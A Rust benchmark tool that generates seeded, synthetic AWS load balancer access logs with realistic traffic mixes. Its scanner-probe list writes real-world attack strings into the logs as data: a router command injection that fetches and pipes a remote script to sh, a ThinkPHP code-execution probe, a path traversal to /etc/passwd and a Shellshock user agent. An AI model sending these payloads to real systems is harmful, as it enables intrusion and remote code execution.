//! The benchmarks' data, made in the repository: a seeded, deterministic generator of realistic
//! load balancer access logs, so `benches/throughput.sh` runs from a clean clone.
//!
//! The line mix follows the shared generator the README's earlier tables used: ALB lines of 30
//! fields (every `type`: h2, https, http, wss, ws, grpcs), about 1.5 % with the newer trailing
//! transform fields; IPv6 clients (8 %, some compressed); status and latency distributions of
//! a busy shop (lognormal target times, 502/503/504/460, redirects, WAF blocks, fixed responses,
//! authentication failures, retried targets, desync classifications, malformed request lines);
//! long URLs with percent-escapes, JSON filters and scanner probes; user agents with escaped
//! quotes. Classic ELB lines: HTTP and TCP/SSL listeners.
//!
//!     cargo run --release --example gen -- --lines 1000 [--classic] [--seed 7] [-o FILE[.gz]]
//!     cargo run --release --example gen -- --all --data benches/data [--only alb,classic,many]
//!
//! The same seed gives the same bytes. Randomness is a SplitMix64 stream (statistical quality is
//! all a benchmark needs; no crate for it).

use std::fs::{self, File};
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};

const HEX: &[u8] = b"0123456789abcdef";
const ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
const ACCOUNT: &str = "123456789012";
const REGION: &str = "us-east-1";
/// 2025-06-01T00:00:00Z.
const START: i64 = 1_748_736_000;

const LBS: [&str; 3] = [
    "app/prod-web/50dc6c495c0c9188",
    "app/prod-api/6e1b7c1c2d3a4f5e",
    "app/k8s-ingress/3a4b5c6d7e8f9012",
];
const DOMAINS: [&str; 8] = [
    "www.shop.io",
    "shop.io",
    "api.shop.io",
    "static.shop.io",
    "auth.shop.io",
    "grpc.shop.io",
    "ws.shop.io",
    "admin.shop.io",
];
const TG_NAMES: [&str; 9] = [
    "web",
    "api",
    "web-blue",
    "api-green",
    "k8s-default-frontend",
    "auth",
    "ws",
    "lambda-thumbnailer",
    "grpc",
];
const CERTS: [&str; 3] = [
    "arn:aws:acm:us-east-1:123456789012:certificate/3f9c2a1e-7b4d-4c8e-9a0f-1d2e3f4a5b6c",
    "arn:aws:acm:us-east-1:123456789012:certificate/a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d",
    "arn:aws:iam::123456789012:server-certificate/legacy-wildcard-2024",
];
const TLS: [((&str, &str), f64); 7] = [
    (("ECDHE-RSA-AES128-GCM-SHA256", "TLSv1.2"), 30.0),
    (("TLS_AES_128_GCM_SHA256", "TLSv1.3"), 45.0),
    (("TLS_AES_256_GCM_SHA384", "TLSv1.3"), 12.0),
    (("ECDHE-RSA-AES256-GCM-SHA384", "TLSv1.2"), 8.0),
    (("ECDHE-ECDSA-CHACHA20-POLY1305", "TLSv1.2"), 3.0),
    (("ECDHE-RSA-AES128-SHA", "TLSv1.1"), 1.0),
    (("AES128-SHA256", "TLSv1.2"), 1.0),
];
const UAS: [(&str, f64); 21] = [
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36", 22.0),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15", 9.0),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1", 14.0),
    ("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.165 Mobile Safari/537.36", 10.0),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", 4.0),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.68", 5.0),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 4.0),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", 2.0),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 1.0),
    ("okhttp/4.12.0", 8.0),
    ("ShopExampleApp/5.14.2 (iPhone15,3; iOS 17.5.1; Scale/3.00)", 9.0),
    ("ShopExampleApp/5.14.1 CFNetwork/1496.0.7 Darwin/23.5.0", 6.0),
    ("python-requests/2.32.3", 2.0),
    ("curl/8.5.0", 1.0),
    ("Go-http-client/2.0", 2.0),
    ("grpc-go/1.64.0", 2.0),
    ("Amazon CloudFront", 3.0),
    ("-", 2.0),
    // quotes inside a user agent: the load balancer writes them as \"
    (r#"Mozilla/5.0 (compatible; \"SecurityScanner\"/3.1; +https://scanner.example.net)"#, 0.3),
    (r#"() { :; }; echo \"vulnerable\""#, 0.1),
    (r#"Mozilla/5.0 \"Windows NT 10.0\" Gecko"#, 0.2),
];
const WORDS: [&str; 22] = [
    "shoes",
    "running",
    "jacket",
    "winter",
    "kids",
    "sale",
    "organic",
    "coffee",
    "black",
    "cotton",
    "wireless",
    "headphones",
    "gift",
    "card",
    "café au lait",
    "naïve",
    "100% wool",
    "size 42",
    "a&b",
    "über",
    "日本",
    "crème brûlée",
];
const SCANNER_PATHS: [&str; 7] = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F1.2.3.4%2Fx%7Csh%60)",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
];
const STATUSES: [&str; 13] = [
    "204", "301", "302", "304", "304", "400", "401", "403", "404", "404", "422", "429", "500",
];

/// SplitMix64.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// Uniform in [0, 1).
    fn f(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    /// Uniform in [lo, hi).
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.next() % (hi - lo)
    }
    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        *self.pick_ref(items)
    }
    fn pick_ref<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.next() as usize % items.len()]
    }
    fn weighted<'a, T>(&mut self, items: &'a [(T, f64)]) -> &'a T {
        let total: f64 = items.iter().map(|(_, w)| w).sum();
        let mut x = self.f() * total;
        for (item, w) in items {
            if x < *w {
                return item;
            }
            x -= w;
        }
        &items[items.len() - 1].0
    }
    fn exp(&mut self, mean: f64) -> f64 {
        -(1.0 - self.f()).ln() * mean
    }
    fn lognormal(&mut self, mu: f64, sigma: f64) -> f64 {
        // Box-Muller
        let (u, v) = (1.0 - self.f(), self.f());
        let normal = (-2.0 * u.ln()).sqrt() * (std::f64::consts::TAU * v).cos();
        (mu + sigma * normal).exp()
    }
    fn hex(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| HEX[self.next() as usize % 16] as char)
            .collect()
    }
    /// One to two distinct words.
    fn words(&mut self) -> String {
        let first = self.pick(&WORDS);
        if self.f() < 0.5 {
            return first.to_string();
        }
        let mut second = self.pick(&WORDS);
        while second == first {
            second = self.pick(&WORDS);
        }
        format!("{first} {second}")
    }
}

/// Percent-encoding of everything but RFC 3986's unreserved characters.
fn pct(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for &b in s.as_bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// `YYYY-MM-DDTHH:MM:SS` of seconds since the epoch (UTC).
fn civil(secs: i64) -> String {
    let (days, rem) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    // Howard Hinnant's days-to-civil
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}",
        rem / 3600,
        rem / 60 % 60,
        rem % 60
    )
}

struct Gen {
    r: Rng,
    classic: bool,
    /// Microseconds since the epoch.
    t: i64,
    lb: Option<usize>,
    targets: Vec<String>,
    tgs: Vec<String>,
    ipv4: Vec<String>,
    ipv6: Vec<String>,
}

impl Gen {
    fn new(seed: u64, classic: bool, t0: i64, lb: Option<usize>) -> Gen {
        let mut r = Rng(seed);
        let targets = (0..40)
            .map(|_| format!("10.0.{}.{}", r.range(0, 64), r.range(2, 254)))
            .collect();
        let tgs = TG_NAMES
            .iter()
            .map(|n| {
                format!(
                    "arn:aws:elasticloadbalancing:{REGION}:{ACCOUNT}:targetgroup/{n}/{}",
                    r.hex(16)
                )
            })
            .collect();
        const FIRST: [u64; 17] = [
            3, 18, 23, 34, 46, 52, 66, 73, 81, 98, 104, 142, 151, 172, 185, 203, 217,
        ];
        let ipv4 = (0..5000)
            .map(|_| {
                let a = r.pick(&FIRST);
                format!(
                    "{a}.{}.{}.{}",
                    r.range(0, 256),
                    r.range(0, 256),
                    r.range(1, 255)
                )
            })
            .collect();
        let ipv6 = (0..800)
            .map(|i| {
                if i % 4 == 0 {
                    // a compressed form
                    let (a, b, c) = (r.range(0, 65536), r.range(0, 65536), r.range(1, 65536));
                    format!("2600:1f18:{a:x}:{b:x}::{c:x}")
                } else {
                    let groups: Vec<String> =
                        (0..8).map(|_| format!("{:x}", r.range(0, 65536))).collect();
                    groups.join(":")
                }
            })
            .collect();
        Gen {
            r,
            classic,
            t: t0 * 1_000_000,
            lb,
            targets,
            tgs,
            ipv4,
            ipv6,
        }
    }

    fn ts(us: i64) -> String {
        format!(
            "{}.{:06}Z",
            civil(us.div_euclid(1_000_000)),
            us.rem_euclid(1_000_000)
        )
    }

    fn client(&mut self) -> String {
        let ip = if self.r.f() < 0.08 {
            self.r.pick_ref(&self.ipv6).clone()
        } else {
            self.r.pick_ref(&self.ipv4).clone()
        };
        format!("{ip}:{}", self.r.range(1024, 65536))
    }

    fn path(&mut self, host: &str) -> String {
        let r = &mut self.r;
        let x = r.f();
        if host.starts_with("api") {
            let mut p = r
                .pick(&[
                    "/v1/orders",
                    "/v1/products",
                    "/v2/cart",
                    "/v1/users/me",
                    "/v1/search",
                    "/v2/recommendations",
                    "/v1/inventory/sku",
                    "/graphql",
                    "/v1/payments/intent",
                ])
                .to_string();
            if r.f() < 0.5 {
                p += &format!("/{}", r.range(1, 10_000_000));
            } else if r.f() < 0.5 {
                return p;
            }
            let q = r.f();
            if q < 0.25 {
                let words = r.words();
                let (page, per) = (r.range(1, 30), r.pick(&[20, 50, 100]));
                p += &format!("?q={}&page={page}&per_page={per}", pct(&words));
            } else if q < 0.35 {
                let locale = r.pick(&["en-US", "de-DE", "fr-FR", "ja-JP"]);
                let currency = r.pick(&["USD", "EUR", "JPY"]);
                p += &format!("?include=items,shipping&locale={locale}&currency={currency}");
            } else if q < 0.39 {
                let filter = format!(
                    r#"{{"price":{{"lt":{}}},"tags":["{}"]}}"#,
                    r.range(10, 500),
                    r.pick(&WORDS)
                );
                p += &format!("?filter={}", pct(&filter));
            }
            return p;
        }
        if host.starts_with("static") {
            let name = r.pick(&["app", "vendor", "main", "runtime", "styles", "logo", "hero"]);
            let hash = r.hex(8);
            let ext = r.pick(&["js", "css", "png", "webp", "woff2", "svg"]);
            return format!("/assets/{name}.{hash}.{ext}");
        }
        if host.starts_with("auth") {
            let (client, state) = (r.hex(26), r.hex(16));
            return format!(
                "/oauth2/authorize?response_type=code&client_id={client}&redirect_uri={}&scope=openid%20profile%20email&state={state}",
                pct("https://www.shop.io/callback")
            );
        }
        if host.starts_with("grpc") {
            return format!(
                "/{}",
                r.pick(&[
                    "shop.catalog.v1.CatalogService/GetProduct",
                    "shop.cart.v1.CartService/AddItem",
                    "grpc.health.v1.Health/Check",
                ])
            );
        }
        if host.starts_with("ws") {
            return format!("/socket.io/?EIO=4&transport=websocket&sid={}", r.hex(20));
        }
        if x < 0.30 {
            return r
                .pick(&[
                    "/",
                    "/cart",
                    "/checkout",
                    "/account/orders",
                    "/favicon.ico",
                    "/robots.txt",
                    "/sitemap.xml",
                    "/health",
                    "/login",
                    "/api/session",
                ])
                .to_string();
        }
        if x < 0.60 {
            let word = pct(&r.pick(&WORDS).to_lowercase());
            let mut p = format!("/products/{word}-{}", r.range(100_000, 999_999));
            if r.f() < 0.25 {
                let source = r.pick(&["google", "facebook", "newsletter"]);
                let campaign = pct(r.pick(&["summer sale", "black friday", "q3-brand"]));
                p += &format!("?utm_source={source}&utm_campaign={campaign}");
            }
            return p;
        }
        if x < 0.80 {
            let words = r.words();
            let sort = r.pick(&["relevance", "price_asc", "newest"]);
            return format!("/search?q={}&sort={sort}", pct(&words));
        }
        if x < 0.85 {
            return r.pick(&SCANNER_PATHS).to_string();
        }
        let (a, b) = (pct(r.pick(&WORDS)), pct(r.pick(&WORDS)));
        format!(
            "/category/{}/{}?page={}",
            a.to_lowercase(),
            b.to_lowercase(),
            r.range(1, 12)
        )
    }

    fn status(&mut self) -> &'static str {
        if self.r.range(0, 53) < 40 {
            "200"
        } else {
            self.r.pick(&STATUSES)
        }
    }

    fn alb_line(&mut self) -> String {
        self.t += self.r.exp(18_000.0) as i64 + 1; // ~55 requests a second, a busy node
        let elb = match self.lb {
            Some(i) => LBS[i],
            None => self.r.pick(&LBS),
        };
        let x = self.r.f();
        let typ = match x {
            x if x < 0.42 => "h2",
            x if x < 0.72 => "https",
            x if x < 0.92 => "http",
            x if x < 0.95 => "wss",
            x if x < 0.965 => "ws",
            _ => "grpcs",
        };
        let host = match typ {
            "grpcs" => "grpc.shop.io",
            "ws" | "wss" => "ws.shop.io",
            _ if self.r.f() < 0.97 => self.r.pick(&DOMAINS[..6]),
            _ => "admin.shop.io",
        };
        let tls = matches!(typ, "https" | "h2" | "wss" | "grpcs");
        let (scheme, port) = if tls { ("https", 443) } else { ("http", 80) };
        let method = match typ {
            "grpcs" => "POST",
            "ws" | "wss" => "GET",
            _ => match self.r.f() {
                y if y < 0.78 => "GET",
                y if y < 0.92 => "POST",
                y if y < 0.95 => "PUT",
                y if y < 0.975 => "OPTIONS",
                y if y < 0.99 => "DELETE",
                y if y < 0.997 => "HEAD",
                _ => "PATCH",
            },
        };
        let proto = if matches!(typ, "h2" | "grpcs") {
            "HTTP/2.0"
        } else if self.r.f() < 0.97 {
            "HTTP/1.1"
        } else {
            "HTTP/1.0"
        };
        let path = self.path(host);
        let url = format!("{scheme}://{host}:{port}{path}");
        let mut ua = *self.r.weighted(&UAS);

        let o = self.r.f();
        let r = &mut self.r;
        let mut target = format!(
            "{}:{}",
            r.pick_ref(&self.targets),
            r.pick(&["80", "8080", "3000", "8443"])
        );
        let mut tg = r.pick_ref(&self.tgs).clone();
        let mut req_t = format!("{:.3}", r.f() * 0.002);
        let mut tgt_t = format!("{:.3}", r.lognormal(-3.3, 1.1).min(59.9));
        let mut rsp_t = "0.000".to_string();
        let status = self.status();
        let r = &mut self.r;
        let (mut elb_sc, mut tgt_sc) = (status, status);
        let mut actions = *r.weighted(&[
            ("forward", 62.0),
            ("waf,forward", 28.0),
            ("authenticate,forward", 6.0),
            ("waf,authenticate,forward", 3.0),
            ("waf-failed,forward", 0.3),
        ]);
        let mut redirect = "-".to_string();
        let mut err = "-";
        let mut prio = r
            .pick(&[0, 1, 2, 3, 5, 10, 20, 100, 1000, 50000])
            .to_string();
        let mut tlist = target.clone();
        let mut sclist = tgt_sc.to_string();
        // answered by the load balancer itself: no target, no target times
        let mut at_the_lb = false;
        if o < 0.006 {
            // 502 from the target
            (elb_sc, tgt_sc, sclist) = ("502", "-", "-".into());
            (tgt_t, rsp_t) = (format!("{:.3}", r.f() * 0.01), "-1".into());
            if r.f() < 0.3 {
                tgt_t = "-1".into();
            }
            err = r.pick(&[
                "-",
                "-",
                "TargetConnectionErrorCode",
                "LambdaInvalidResponse",
            ]);
        } else if o < 0.009 {
            // 503, no healthy target
            at_the_lb = true;
            (elb_sc, tgt_sc, sclist) = ("503", "-", "-".into());
            prio = "-".into();
        } else if o < 0.014 {
            // 460, the client closed the connection
            (req_t, tgt_t, rsp_t) = ("0.000".into(), "-1".into(), "-1".into());
            (elb_sc, tgt_sc, sclist) = ("460", "-", "-".into());
        } else if o < 0.017 {
            // 504, target timeout
            (tgt_t, rsp_t) = ("-1".into(), "-1".into());
            (elb_sc, tgt_sc, sclist) = ("504", "-", "-".into());
        } else if o < 0.035 {
            // redirect at the load balancer (http -> https)
            at_the_lb = true;
            (elb_sc, tgt_sc, sclist) = ("301", "-", "-".into());
            actions = "redirect";
            redirect = format!("https://{host}:443{path}");
        } else if o < 0.043 {
            // WAF block
            at_the_lb = true;
            (elb_sc, tgt_sc, sclist) = ("403", "-", "-".into());
            actions = "waf";
        } else if o < 0.047 {
            // fixed response
            at_the_lb = true;
            (elb_sc, tgt_sc, sclist) = (r.pick(&["404", "200", "503"]), "-", "-".into());
            actions = "waf,fixed-response";
        } else if o < 0.049 {
            // authentication failure
            at_the_lb = true;
            (elb_sc, tgt_sc, sclist) = (r.pick(&["401", "500", "561"]), "-", "-".into());
            actions = "authenticate";
            err = r.pick(&[
                "AuthInvalidCookie",
                "AuthInvalidIdToken",
                "AuthIdPTimeout",
                "AuthMissingCodeParam",
            ]);
        }
        if matches!(typ, "ws" | "wss") && elb_sc < "400" && tgt_sc != "-" {
            (elb_sc, tgt_sc, sclist) = ("101", "101", "101".into());
            tgt_t = format!("{:.3}", r.f() * 900.0);
        }
        let request = if o < 0.0005 {
            // a malformed request line, as the load balancer logs it
            (elb_sc, tgt_sc, sclist) = ("400", "-", "-".into());
            at_the_lb = true;
            (actions, prio, ua) = ("-", "-".into(), "-");
            format!("- {scheme}://{host}:{port}- -")
        } else {
            format!("{method} {url} {proto}")
        };
        if at_the_lb {
            (target, tlist, tg) = ("-".into(), "-".into(), "-".into());
            (req_t, tgt_t, rsp_t) = ("-1".into(), "-1".into(), "-1".into());
        }
        let (cipher, tls_proto, domain, cert) = if tls {
            let (cipher, proto) = *r.weighted(&TLS);
            let mut cert = if r.f() < 0.7 {
                CERTS[0]
            } else {
                r.pick(&CERTS)
            };
            if r.f() < 0.45 {
                cert = "session-reused";
            }
            (cipher, proto, host, cert)
        } else {
            ("-", "-", "-", "-")
        };
        let mut rx = if matches!(method, "GET" | "HEAD" | "OPTIONS") {
            r.range(150, 1200)
        } else {
            r.range(400, 30_000)
        };
        if elb_sc == "304" {
            rx = r.range(300, 900);
        }
        let tx = if matches!(elb_sc, "304" | "204" | "460") {
            0
        } else {
            r.lognormal(7.5, 1.6) as u64
        };
        let secs = self.t / 1_000_000;
        let root = format!("Root=1-{secs:08x}-{}", r.hex(24));
        let trace = if r.f() < 0.9 {
            root
        } else {
            format!("Self=1-{secs:08x}-{};{root}", r.hex(24))
        };
        let waited = tgt_t.parse::<f64>().map_or(0.0, |t| t.max(0.0));
        let created = Self::ts(self.t - (waited * 1e6) as i64 - r.range(0, 3000) as i64);
        let (class, reason) = if r.f() < 0.004 {
            r.pick(&[
                ("Ambiguous", "UndefinedContentLengthSemantics"),
                ("Acceptable", "NonCompliantHeader"),
                ("Severe", "BadContentLength"),
            ])
        } else {
            ("-", "-")
        };
        if tlist != "-" && r.f() < 0.003 {
            // retried on another target
            let port = tlist.rsplit(':').next().unwrap_or("80").to_string();
            tlist = format!("{tlist} {}:{port}", r.pick_ref(&self.targets));
            sclist = format!("502 {sclist}");
        }
        let tid = format!("TID_{}", r.hex(32));
        let time = Self::ts(self.t);
        let client = self.client();
        let r = &mut self.r;
        let mut line = format!(
            "{typ} {time} {elb} {client} {target} {req_t} {tgt_t} {rsp_t} {elb_sc} {tgt_sc} {rx} {tx} \
             \"{request}\" \"{ua}\" {cipher} {tls_proto} {tg} \"{trace}\" \"{domain}\" \"{cert}\" {prio} \
             {created} \"{actions}\" \"{redirect}\" \"{err}\" \"{tlist}\" \"{sclist}\" \"{class}\" \
             \"{reason}\" {tid}"
        );
        if r.f() < 0.015 {
            // the newer trailing fields
            if r.f() < 0.8 {
                line += r#" "-" "-" "-""#;
            } else {
                line += r#" "backend.internal" "/internal/v1/orders" "TRANSFORMED""#;
            }
        }
        line
    }

    fn classic_line(&mut self) -> String {
        self.t += self.r.exp(18_000.0) as i64 + 1;
        let name = "prod-classic-elb";
        let time = Self::ts(self.t);
        let client = self.client();
        let r = &mut self.r;
        let mut backend = format!("{}:{}", r.pick_ref(&self.targets), r.pick(&["80", "8080"]));
        let mut rt = format!("{:.6}", r.f() * 0.0002);
        let mut bt = format!("{:.6}", r.lognormal(-3.3, 1.1).min(59.9));
        let mut st = format!("{:.6}", r.f() * 0.0001);
        let x = r.f();
        if x < 0.04 {
            // a TCP or SSL listener
            let (rx, tx) = (r.range(50, 5000), r.range(50, 50_000));
            let (cipher, proto) = if r.f() < 0.5 {
                ("ECDHE-RSA-AES128-GCM-SHA256", "TLSv1.2")
            } else {
                ("-", "-")
            };
            return format!(
                "{time} {name} {client} {backend} {rt} {bt} {st} - - {rx} {tx} \"- - - \" \"-\" {cipher} {proto}"
            );
        }
        let tls = r.f() < 0.7;
        let host = r.pick(&DOMAINS[..6]);
        let port = if tls { 443 } else { 80 };
        let method = *r.weighted(&[
            ("GET", 78.0),
            ("POST", 14.0),
            ("PUT", 3.0),
            ("HEAD", 2.0),
            ("OPTIONS", 2.0),
            ("DELETE", 1.0),
        ]);
        let path = self.path(host);
        let r = &mut self.r;
        let url = format!(
            "{}://{host}:{port}{path}",
            if tls { "https" } else { "http" }
        );
        let proto = if r.f() < 0.98 { "HTTP/1.1" } else { "HTTP/1.0" };
        let mut sc = if r.range(0, 50) < 40 {
            "200"
        } else {
            r.pick(&[
                "204", "301", "302", "304", "400", "401", "403", "404", "404", "500",
            ])
        };
        let mut bsc = sc;
        if x < 0.05 {
            backend = "-".into();
            (rt, bt, st) = ("-1".into(), "-1".into(), "-1".into());
            (sc, bsc) = (r.pick(&["503", "504"]), "0");
        } else if x < 0.055 {
            (bt, st) = ("-1".into(), "-1".into());
            (sc, bsc) = ("502", "-");
        }
        let ua = *r.weighted(&UAS);
        // Classic ELB negotiates TLS 1.2 at most (no TLS_AES_* suites)
        let (cipher, tls_proto) = if tls {
            let classic: Vec<((&str, &str), f64)> = TLS
                .iter()
                .filter(|((c, _), _)| !c.starts_with("TLS_"))
                .copied()
                .collect();
            *r.weighted(&classic)
        } else {
            ("-", "-")
        };
        let rx = if matches!(method, "GET" | "HEAD") {
            0
        } else {
            r.range(100, 20_000)
        };
        let tx = r.lognormal(7.5, 1.6) as u64;
        format!(
            "{time} {name} {client} {backend} {rt} {bt} {st} {sc} {bsc} {rx} {tx} \
             \"{method} {url} {proto}\" \"{ua}\" {cipher} {tls_proto}"
        )
    }

    fn write(&mut self, n: u64, out: &mut dyn Write) -> io::Result<()> {
        for _ in 0..n {
            let line = if self.classic {
                self.classic_line()
            } else {
                self.alb_line()
            };
            out.write_all(line.as_bytes())?;
            out.write_all(b"\n")?;
        }
        Ok(())
    }
}

/// `n` lines of `gen` into `path`: gzip (level 6) when it ends in `.gz`.
fn write_file(path: &Path, gen: &mut Gen, n: u64) -> io::Result<()> {
    let file = BufWriter::with_capacity(1 << 20, File::create(path)?);
    if path.extension().is_some_and(|e| e == "gz") {
        let mut gz = flate2::write::GzEncoder::new(file, flate2::Compression::new(6));
        gen.write(n, &mut gz)?;
        gz.finish()?.flush()
    } else {
        let mut file = file;
        gen.write(n, &mut file)?;
        file.flush()
    }
}

/// The benchmarks' data set: `alb-1m.log` (+ `.gz`), `classic-1m.log` (+ `.gz`) and `many/`,
/// 50 gzip objects of 20,000 lines named as S3 names them (5 nodes, 5-minute windows).
fn build_all(data: &Path, seed: u64, lines: u64, only: &[&str]) -> io::Result<()> {
    fs::create_dir_all(data)?;
    for (name, kind, classic) in [("alb", 0, false), ("classic", 1, true)] {
        if only.contains(&name) {
            let raw = data.join(format!("{name}-1m.log"));
            write_file(
                &raw,
                &mut Gen::new(seed + kind, classic, START, None),
                lines,
            )?;
            let gz = data.join(format!("{name}-1m.log.gz"));
            write_file(&gz, &mut Gen::new(seed + kind, classic, START, None), lines)?;
        }
    }
    if only.contains(&"many") {
        let many = data.join("many");
        fs::create_dir_all(&many)?;
        let mut r = Rng(seed + 2);
        let nodes: Vec<String> = (0..5)
            .map(|_| format!("10.0.{}.{}", r.range(0, 64), r.range(2, 254)))
            .collect();
        for k in 0..50u64 {
            let window = START + (k as i64 / 5) * 300;
            let node = &nodes[k as usize % 5];
            let end = civil(window + 300).replace(['-', ':'], "");
            let end = &end[..13];
            let rnd: String = (0..8)
                .map(|_| ALNUM[r.next() as usize % ALNUM.len()] as char)
                .collect();
            let name = format!(
                "{ACCOUNT}_elasticloadbalancing_{REGION}_app.prod-web.50dc6c495c0c9188_{end}Z_{node}_{rnd}.log.gz"
            );
            let mut gen = Gen::new(seed + 100 + k, false, window, Some(0));
            write_file(&many.join(name), &mut gen, 20_000)?;
        }
    }
    Ok(())
}

fn main() {
    let mut args = std::env::args().skip(1);
    let (mut classic, mut all) = (false, false);
    let (mut lines, mut seed) = (1_000_000u64, 20_250_601u64);
    let mut output: Option<PathBuf> = None;
    let mut data = PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/benches/data"));
    let mut only = "alb,classic,many".to_string();
    let usage = "usage: gen [--classic] [--lines N] [--seed S] [-o FILE[.gz]] | \
                 gen --all [--data DIR] [--only alb,classic,many] [--lines N] [--seed S]";
    let fail = |message: &str| -> ! {
        eprintln!("gen: {message}\n{usage}");
        std::process::exit(2)
    };
    while let Some(arg) = args.next() {
        let mut value = || {
            args.next()
                .unwrap_or_else(|| fail(&format!("{arg} needs a value")))
        };
        match arg.as_str() {
            "--classic" => classic = true,
            "--all" => all = true,
            "--lines" => lines = value().parse().unwrap_or_else(|_| fail("--lines N")),
            "--seed" => seed = value().parse().unwrap_or_else(|_| fail("--seed S")),
            "-o" | "--output" => output = Some(value().into()),
            "--data" => data = value().into(),
            "--only" => only = value(),
            "-h" | "--help" => {
                println!("{usage}");
                return;
            }
            other => fail(&format!("unknown argument {other:?}")),
        }
    }
    let result = if all {
        let only: Vec<&str> = only.split(',').collect();
        build_all(&data, seed, lines, &only)
    } else {
        let mut gen = Gen::new(seed, classic, START, None);
        match output.filter(|p| p.as_os_str() != "-") {
            Some(path) => write_file(&path, &mut gen, lines),
            None => {
                let mut out = BufWriter::with_capacity(1 << 20, io::stdout().lock());
                gen.write(lines, &mut out).and_then(|()| out.flush())
            }
        }
    };
    if let Err(e) = result {
        if e.kind() != io::ErrorKind::BrokenPipe {
            fail(&e.to_string());
        }
    }
}
